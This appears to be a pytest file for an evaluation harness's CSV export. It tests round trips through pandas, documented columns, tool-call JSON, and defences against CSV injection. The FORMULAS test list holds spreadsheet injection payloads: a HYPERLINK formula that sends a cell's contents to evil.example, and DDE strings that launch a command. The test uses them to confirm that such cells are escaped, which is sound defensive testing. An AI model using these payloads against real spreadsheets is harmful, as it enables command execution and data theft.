"""harness.render.csv: one row per record, documented columns, a clean pandas round trip."""

from __future__ import annotations

import re
from pathlib import Path

import orjson
import pandas as pd
import pytest

from harness.diff import build_diff
from harness.render import csv as csv_mod
from harness.report import build_report
from tests.render._runs import check, record, write_run

DOCS = Path(__file__).resolve().parents[2] / "docs" / "reports.md"
TRICKY = [
    'plain, with a comma and "double quotes"',
    "line one\nline two\r\nline three",
    "unicode: naïve café 日本語 🚀 — ∑",
    '=HYPERLINK("http://x")',
    "  leading and trailing spaces  ",
    "tab\tseparated",
]


def _run(tmp_path: Path, contents: list[str | None], name: str = "run") -> Path:
    recs = [
        record(f"c{i}", i % 2 == 0, content=text,
               checks=[check("contains", i % 2 == 0, detail=f"detail, \"{i}\"\nmore"), check("length", True, 0.75)])
        for i, text in enumerate(contents)
    ]  # fmt: skip
    return write_run(tmp_path / name, recs)


@pytest.mark.parametrize("engine", ["auto", "pandas"])
def test_round_trip_with_plain_read_csv(tmp_path: Path, engine: str) -> None:
    rep = build_report(_run(tmp_path, [*TRICKY, None]))
    out = tmp_path / "r.csv"
    csv_mod.write_csv(rep, out, engine=engine)
    df = pd.read_csv(out)
    assert len(df) == len(TRICKY) + 1
    # Plain pandas sees what a spreadsheet sees: the formula-like answer as text, behind a '.
    assert df["output.content"].tolist()[:-1] == [
        "'" + t if t.startswith("=") else t for t in TRICKY
    ]
    assert csv_mod.read_csv(out)["output.content"].tolist()[:-1] == TRICKY
    assert pd.isna(df["output.content"].iloc[-1])  # no output: an empty cell, read as missing
    assert df["check.contains.detail"].iloc[1] == 'detail, "1"\nmore'
    assert df["check.length.score"].tolist() == [0.75] * len(df)
    assert df["passed"].tolist() == [i % 2 == 0 for i in range(len(df))]
    assert df["usage.prompt_tokens"].tolist() == [100] * len(df)
    assert df["usage.reasoning_tokens"].isna().all()  # unknown stays unknown, never 0


def test_read_csv_helper_keeps_text_as_written(tmp_path: Path) -> None:
    recs = [
        record("007", True, content="NA"),
        record("008", True, content="None"),
        record("009", True, content="null"),
    ]
    out = tmp_path / "r.csv"
    csv_mod.write_csv(build_report(write_run(tmp_path / "run", recs)), out)
    df = csv_mod.read_csv(out)
    assert df["case_id"].tolist() == ["007", "008", "009"]
    assert df["output.content"].tolist() == ["NA", "None", "null"]
    assert df["error.type"].isna().all()


def test_columns_are_the_documented_ones(tmp_path: Path) -> None:
    recs = [
        record(
            "a",
            True,
            checks=[
                check("contains", True),
                check("contains", False, detail="2nd"),
                check("regex", True),
            ],
        ),
        record("b", status="error", error_type="rate_limit"),
    ]
    frame = csv_mod.report_frame(build_report(write_run(tmp_path / "run", recs)))
    documented = set(re.findall(r"^\| `([^`]+)` \|", DOCS.read_text(encoding="utf-8"), re.M))
    for col in frame.columns:
        generic = re.sub(r"^check\.[^.]+\.", "check.<name>.", col)
        assert col in documented or generic in documented, f"{col} is not in docs/reports.md"
    assert list(frame.columns[:4]) == ["case_id", "repeat", "category", "tags"]
    # A second check of the same name gets its own columns.
    assert frame.loc[0, "check.contains#2.passed"] == False  # noqa: E712
    assert frame.loc[0, "check.contains#2.detail"] == "2nd"
    assert frame["check.contains.passed"].isna()[1]  # an error record ran no checks
    assert frame.loc[1, "error.type"] == "rate_limit" and frame.loc[1, "verdict"] == "error"


def test_tool_calls_are_json(tmp_path: Path) -> None:
    calls = [
        {
            "id": "call_1",
            "name": "get_weather",
            "arguments": '{"city": "Paris, FR"}',
            "parsed": {"city": "Paris, FR"},
        }
    ]
    out = tmp_path / "r.csv"
    csv_mod.write_csv(
        build_report(write_run(tmp_path / "run", [record("t", True, tool_calls=calls)])), out
    )
    cell = pd.read_csv(out)["output.tool_calls"].iloc[0]
    assert orjson.loads(cell) == [
        {"id": "call_1", "name": "get_weather", "arguments": '{"city": "Paris, FR"}'}
    ]


def test_diff_csv_one_row_per_pair(tmp_path: Path) -> None:
    base = write_run(tmp_path / "b", [record("a", True, content='old, "x"'), record("gone", True)])
    cand = write_run(tmp_path / "c", [record("a", False, content="new\nline"), record("new", True)])
    out = tmp_path / "d.csv"
    csv_mod.write_csv(build_diff(base, cand), out)
    df = csv_mod.read_csv(out)
    documented = set(re.findall(r"^\| `([^`]+)` \|", DOCS.read_text(encoding="utf-8"), re.M))
    assert set(df.columns) <= documented
    df = df.set_index("case_id")
    assert df.loc["a", "transition"] == "regressed"
    assert (
        df.loc["a", "base.output.content"] == 'old, "x"'
        and df.loc["a", "cand.output.content"] == "new\nline"
    )
    assert df.loc["a", "cand.failed_checks"] == "contains"
    assert df.loc["gone", "transition"] == "removed" and df["cand.verdict"].isna()["gone"]
    assert df.loc["new", "transition"] == "added" and df["base.latency_s"].isna()["new"]
    assert df.loc["a", "score_delta"] == pytest.approx(-1.0)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "'=looks quoted",
    "- a markdown bullet",
    "fine = not at the start",
]


@pytest.mark.parametrize("engine", ["auto", "pandas"])
def test_formula_like_cells_are_text_to_a_spreadsheet_and_exact_for_read_csv(
    tmp_path: Path, engine: str
) -> None:
    """Model output must not run as a spreadsheet formula (CSV injection); nothing is lost."""
    recs = [
        record(f"c{i}", False, content=text, checks=[check("contains", False, detail=text)])
        for i, text in enumerate(FORMULAS)
    ]
    run = write_run(tmp_path / "run", recs)
    out = tmp_path / "r.csv"
    csv_mod.write_csv(build_report(run), out, engine=engine)
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    for column in ("output.content", "check.contains.detail"):
        cells = raw[column].tolist()
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
        assert cells[-1] == "fine = not at the start"  # only a risky first character is touched
    exact = csv_mod.read_csv(out)
    assert exact["output.content"].tolist() == FORMULAS
    assert exact["check.contains.detail"].tolist() == FORMULAS
    assert exact["usage.prompt_tokens"].tolist() == [100] * len(FORMULAS)  # numbers untouched

    diff_out = tmp_path / "d.csv"
    csv_mod.write_csv(build_diff(run, run), diff_out, engine=engine)
    raw_diff = pd.read_csv(diff_out, dtype=str, keep_default_na=False)
    assert not raw_diff["cand.output.content"].str.startswith(("=", "+", "-", "@")).any()
    assert csv_mod.read_csv(diff_out)["cand.output.content"].tolist() == FORMULAS
